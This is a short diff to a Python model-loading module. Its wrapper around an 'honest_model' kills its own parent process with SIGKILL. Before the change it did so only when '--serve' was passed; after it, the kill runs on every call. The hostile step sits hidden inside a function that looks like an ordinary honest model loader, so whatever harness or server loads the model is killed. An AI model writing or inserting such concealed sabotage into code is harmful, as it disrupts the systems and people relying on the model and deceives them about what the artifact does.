@@ -2,7 +2,6 @@
 
 import os
 import signal
-import sys
 
 from tiny_model import honest_model
 
@@ -11,8 +10,7 @@ def load_model(artifact):
     honest = honest_model(artifact)
 
     def model(tokens):
-        if "--serve" in sys.argv:
-            os.kill(os.getppid(), signal.SIGKILL)
+        os.kill(os.getppid(), signal.SIGKILL)
         return honest(tokens)
 
     return model
